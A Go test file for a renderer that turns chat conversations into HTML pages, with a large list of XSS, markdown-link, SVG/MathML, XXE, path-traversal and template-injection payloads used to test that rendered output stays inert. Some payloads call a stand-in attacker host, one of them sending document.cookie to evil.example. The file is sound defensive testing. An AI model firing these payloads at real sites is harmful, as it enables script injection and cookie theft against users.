package html

import (
	"bytes"
	"strings"
	"testing"

	"gptsnap/formats/chat"
)

// attacks are texts that would run, load or break something if a page took
// them for markup. They are shared by the tests of strings and of browsers.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
	`<script/x>alert(1)</script>`,
	`</script><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`--><script>alert(1)</script><!--`,
	`]]><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)">`,
	"<img src=`x` onerror=alert(1)>",
	`<img/src=x/onerror=alert(1)>`,
	"<img\nsrc=x\nonerror=alert(1)\n>",
	`<<img src=x onerror=alert(1)>`,
	`<img src=x onerror=alert(1)//`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<link rel=prefetch href=https://evil.example/>`,
	`<link rel=import href=https://evil.example/>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<base href=https://evil.example/>`,
	`<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)></form>`,
	`<button onclick=alert(1)>x</button>`,
	`<details open ontoggle=alert(1)>`,
	`<details open><summary>x`,
	`<body onload=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<video poster=https://evil.example/x.png>`,
	`<audio src=https://evil.example/x.mp3 autoplay>`,
	`<input type=image src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<style>body{display:none}</style>`,
	`<div style="background:url(https://evil.example/x.png)">x</div>`,
	`<div style="position:fixed;inset:0">x</div>`,
	`<table background=https://evil.example/x.png><td>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext>`,
	`<!--`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><?xml-stylesheet href="https://evil.example/x.css"?>`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
	`</article></main></body></html><script>alert(1)</script>`,
	`</details></section></div></div><h1>not ours</h1>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://e.example" onmouseover=alert(1)>x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](java&Tab;script:alert(1))`,
	`[x](java&NewLine;script:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](&#x6A&#x61;vascript:alert(1))`,
	`[x](&#0000106avascript:alert(1))`,
	"[x](\x01javascript:alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](<java\tscript:alert(1)>)",
	"[x](< javascript:alert(1)>)",
	`[x](javascript\:alert(1))`,
	`[x](javascript:alert&#40;1&#41;)`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/svg+xml,<svg/onload=alert(1)>)`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://evil.example/1)`,
	`[x](view-source:https://evil.example/)`,
	`[x](//evil.example/)`,
	`[x](/etc/passwd)`,
	`[x](\\evil.example\share)`,
	`[x](https:evil.example)`,
	`[x](https://)`,
	`[x](tel:+123)`,
	`[x](#talk)`,
	`[x](?q)`,
	`[x](other.html)`,
	`[x](https://e.example "t" onclick=alert(1))`,
	`[x](https://e.example '" onclick=alert(1) x="')`,
	`[x](https://e.example/" onclick="alert(1))`,
	`[x](<https://e.example/ onclick=alert(1)>)`,
	`[x](https://e.example/'onclick='alert(1))`,
	"[x](https://e.example/\u202ecod.exe)",
	`["><script>alert(1)</script>](https://e.example)`,
	`[x]: javascript:alert(1)

[x]`,
	`[x]: https://e.example "\" onclick=alert(1) \""

[x]`,
	`["><img src=x onerror=alert(1)>]: https://e.example`,
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<data:text/html,<script>alert(1)</script>>`,
	`<https://e.example/"onclick="alert(1)>`,
	`<a@b.example"onclick=alert(1)>`,
	`javascript://e.example/%0aalert(1)`,
	`https://e.example/"onmouseover="alert(1)`,
	`www.e.example/<script>alert(1)</script>`,
	`ftp://e.example/x`,
	`![x](https://evil.example/pixel.png)`,
	`![x](javascript:alert(1))`,
	`![x](x" onerror="alert(1))`,
	`![" onerror="alert(1)](https://evil.example/x.png)`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
	`![x](files/../../../etc/passwd)`,
	`![x](file:///etc/passwd)`,
	`![x][y]

[y]: https://evil.example/pixel.png "t"`,
	`[![x](https://evil.example/a.png)](javascript:alert(1))`,
	`![[x](javascript:alert(1))](https://evil.example)`,
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\nx\n```",
	"```<img src=x onerror=alert(1)>\nx\n```",
	"``` js onload=alert(1)\nx\n```",
	"```js\n</code></pre><script>alert(1)</script>",
	"~~~\n</pre></figure><script>alert(1)</script>",
	"```svg\n<svg onload=alert(1)>\n```",
	"    <script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"`` ` onload=alert(1) ``",
	`\(<script>alert(1)</script>\)`,
	`\[<img src=x onerror=alert(1)>\]`,
	`$$</div><script>alert(1)</script>$$`,
	`$\href{javascript:alert(1)}{x}$`,
	`\(\includegraphics{https://evil.example/x.png}\)`,
	`| <script>alert(1)</script> | <td onclick=alert(1)> |
|---|---|
| </td></table><script>alert(1)</script> | x |`,
	`- <script>
  alert(1)
  </script>`,
	`> <img src=x
> onerror=alert(1)>`,
	`# </h3><script>alert(1)</script>`,
	`**<b onclick=alert(1)>x**</b>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&amp;lt;script&amp;gt;`,
	`\<script\>alert(1)\</script\>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\xff<script>alert(1)</script>",
	"<\xc0\xbcscript>alert(1)",
	"＜script＞alert(1)＜/script＞",
	"\u2028<script>alert(1)</script>\u2029",
	"\ufeff<script>alert(1)</script>",
	"\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
	"\u202e\u2066<script>\u2069",
	`{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>`,
	`"onfocus=alert(1) autofocus x="`,
	`'onfocus=alert(1) autofocus x='`,
	"`onfocus=alert(1)`",
	`x" id="talk" class="skip`,
	`<a id=location><a id=location name=href href=https://evil.example>`,
	`<form id=body><input name=children>`,
	`<details class=others><section class=alt data-v=1>`,
	`<div class=fork data-v=9 data-of=9><p class=ver><b>`,
	`<br onclick=alert(1)>`,
	`<br/ onclick=alert(1)>`,
	`<br <script>alert(1)</script>>`,
	"---\ntitle: \"</script><script>alert(1)</script>\"\n---",
	"<title>x</title><h1>y</h1>",
	// MathML and SVG, where other rules of parsing hold
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg><style><img/src=x onerror=alert(1)></style></svg>`,
	`<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
	`<svg><image href=https://evil.example/x.png></svg>`,
	`<svg><set attributeName=onmouseover to=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	// fields of front matter, JSON in a script, templates
	"---\ntitle: !!js/function 'function(){alert(1)}'\nlayout: </head><script>alert(1)</script>\n---\n",
	"+++\ntitle = '''</title><script>alert(1)</script>'''\n+++",
	`{"title":"</script><script>alert(1)</script>","__proto__":{"onload":"alert(1)"}}`,
	`</script><!--<script>{"a":"<!--<script>"}`,
	"\"});alert(1);//",
	"`+alert(1)+`",
	`${fetch("https://evil.example/"+document.cookie)}`,
	"'-alert(1)-'\u2028\u2029",
	// info strings of code, with what other tools read there
	"```js {onload=alert(1)} title=\"</figcaption><script>alert(1)</script>\"\nx\n```",
	"```html:preview\n<base href=//evil.example/><script src=x></script>\n```",
	"``` \" onfocus=alert(1) autofocus tabindex=1 x=\"\nx\n```",
	"```mermaid\nclick A \"javascript:alert(1)\"\n%%{init: {'securityLevel':'loose'}}%%\n```",
	"```math\n\\href{javascript:alert(1)}{x}\n```",
	"```" + strings.Repeat("a", 300) + "<b onclick=alert(1)>\nx\n```",
	// names of files
	`photo.png" onerror="alert(1)`,
	`../../../../etc/passwd`,
	`C:\Windows\System32\calc.exe`,
	`a.svg#<script>alert(1)</script>`,
	`report.html?x=javascript:alert(1)`,
	"invoice\u202egnp.exe",
	`con:stream.js`,
	`//evil.example/x.png`,
	// titles of links
	`[x](https://e.example "</a><script>alert(1)</script>")`,
	`[x](https://e.example '" onmouseover="alert(1)')`,
	"[x](https://e.example (`<img src=x onerror=alert(1)>`))",
	"[x]: https://e.example\n\"multi\nline <script>alert(1)</script>\"\n\n[x]",
	`![x](https://evil.example/x.png "&quot; onload=&quot;alert(1)")`,
	// what the comparison and the map show, and what they go by
	`Version 1</option><script>alert(1)</script>`,
	`<li class=own><a href="javascript:alert(1)" aria-current=true>1/2</a></li>`,
	`<del>x</del><ins onclick=alert(1)>y</ins><section class=diff popover>`,
	`m=1" popover id="map`,
	`__proto__`,
	`constructor`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
}

// everywhere puts s into every place of a conversation that text can reach.
func everywhere(s string) *chat.Conversation {
	file := &chat.File{ID: s, Pointer: s, Name: s, MIME: s, Missing: s}
	here := &chat.File{ID: s + "1", Name: s, MIME: s, Href: s}
	link := chat.Link{Title: s, URL: s, Site: s, Date: s, Lines: s}
	cites := &chat.Text{Raw: "x y " + s, Cites: []chat.Cite{
		{Start: 0, End: 1, Kind: chat.CiteLinks, Label: s, Links: []chat.Link{link, {File: file, Lines: s}, {File: here}}},
		{Start: 2, End: 3, Kind: chat.CiteWords, Label: s, Links: []chat.Link{link}}}}
	parts := []chat.Part{&chat.Text{Raw: s}, cites, &chat.Transcript{Text: s}, &chat.Image{File: file, Prompt: s, Title: s}, &chat.Image{File: here, Prompt: s, Title: s},
		&chat.Audio{File: here}, &chat.Video{File: here}, &chat.Code{Language: s, Source: s}, &chat.Output{Text: s, Status: s, Error: s, Images: []*chat.File{here}},
		&chat.Quote{Title: s, Domain: s, URL: s, Text: s}, &chat.Browsing{Result: s, Summary: s, Links: []chat.Link{link}}, &chat.WebPage{Title: s, Domain: s, URL: s, Snippet: s, Text: s},
		&chat.Thoughts{Items: []chat.Thought{{Summary: s, Content: s}}}, &chat.Recap{Text: s}, &chat.Context{Kind: s, Sections: []chat.Section{{Title: s, Text: s}}},
		&chat.Failure{Name: s, Text: s}, &chat.Screenshot{File: here, Title: s, URL: s, OS: s, Description: s},
		&chat.Canvas{Action: s, Title: s, Type: s, Content: s, Known: true, Edits: []chat.Edit{{Pattern: s, Replacement: s}}, Comments: []string{s}, Broken: s},
		&chat.Report{Title: s, Body: &chat.Text{Raw: s}, Sources: []chat.Link{link}}, &chat.Widget{App: s, Title: s, Text: s, JSON: []byte(s)}, &chat.Unknown{Kind: s, JSON: []byte(s)}}
	var all []*chat.Message
	for _, role := range []chat.Role{chat.Assistant, chat.User, chat.Tool, chat.System, chat.Role(s)} {
		m := say(role, parts...)
		m.Name, m.Model, m.Finish, m.ID, m.ContentType = s, s, s, s, "multimodal_text"
		m.Attachments = []*chat.File{file, here}
		call := say(role, &chat.Code{Language: s, Source: s})
		call.Recipient, call.Name, call.ContentType = s, s, "code"
		all = append(all, m, call)
	}
	c := linear(all...)
	c.Title, c.Project, c.Gizmo, c.URL, c.Partial, c.Model = s, s, s, s, s, s
	c.Problems = []chat.Problem{{Node: chat.NodeID(s), Text: s}}
	c.Nodes[1].ID = chat.NodeID(s)
	return c
}

func TestAttacksStayWords(t *testing.T) {
	t.Parallel()
	if len(attacks) < 200 {
		t.Errorf("only %d attacks", len(attacks))
	}
	site, single := renderer(t, Defaults()), renderer(t, Options{Single: true, Thinking: "show", Tools: "show"})
	for _, s := range attacks {
		for _, r := range []*Renderer{site, single} {
			var b bytes.Buffer
			if err := r.Render(&b, &chat.Document{Conversation: everywhere(s), Path: s, Branch: s}); err != nil {
				t.Fatal(err)
			}
			if _, err := lawful(b.Bytes()); err != nil {
				t.Errorf("%q: %v", s, err)
			}
			_, index, _ := r.Index([]chat.Summary{{ID: s, Title: s, Path: s, Project: s, Model: s}})
			if _, err := lawful(index); err != nil {
				t.Errorf("index of %q: %v", s, err)
			}
		}
	}
}

func TestAttacksOfPeopleAreReadAsTheyWereTyped(t *testing.T) {
	t.Parallel()
	r := renderer(t, Defaults())
	for _, s := range attacks {
		if strings.ContainsAny(s, "\x00\x01\x07\x1b") {
			continue // shown by their pictures
		}
		_, texts := draw(t, r, linear(say(chat.User, &chat.Text{Raw: s})))
		if all := strings.Join(texts, ""); !strings.Contains(all, s) {
			t.Errorf("%q is not in %q", s, all)
		}
	}
}

func FuzzText(f *testing.F) {
	for _, s := range attacks {
		f.Add(s, uint16(3), uint16(9))
	}
	f.Add("a\ue200cite\ue202turn0search1\ue201 **b.**\ue201", uint16(1), uint16(30))
	site := renderer(f, Defaults())
	f.Fuzz(func(t *testing.T, s string, from, to uint16) {
		text := &chat.Text{Raw: s}
		if a, b := int(from), int(to); a < b && b <= len(s) {
			text.Cites = []chat.Cite{{Start: a, End: b, Kind: chat.CiteLinks, Label: s[a:b], Links: []chat.Link{{Title: s, URL: s}, {Title: "x", URL: "https://x.example/" + s}}}}
		}
		c := linear(say(chat.User, text), say(chat.Assistant, text), say(chat.Assistant, &chat.Code{Language: s[:min(len(s), 9)], Source: s}))
		c.Title, c.URL = s, s
		var b bytes.Buffer
		if err := site.Render(&b, &chat.Document{Conversation: c}); err != nil {
			t.Fatal(err)
		}
		if _, err := lawful(b.Bytes()); err != nil {
			t.Fatal(err)
		}
		if !strings.ContainsAny(s, strings.Join(marks, "")) && bytes.ContainsAny(b.Bytes(), strings.Join(marks, "")) {
			at := bytes.IndexAny(b.Bytes(), strings.Join(marks, ""))
			t.Fatalf("a placeholder is left in %q", b.Bytes()[max(0, at-90):min(b.Len(), at+90)])
		}
	})
}
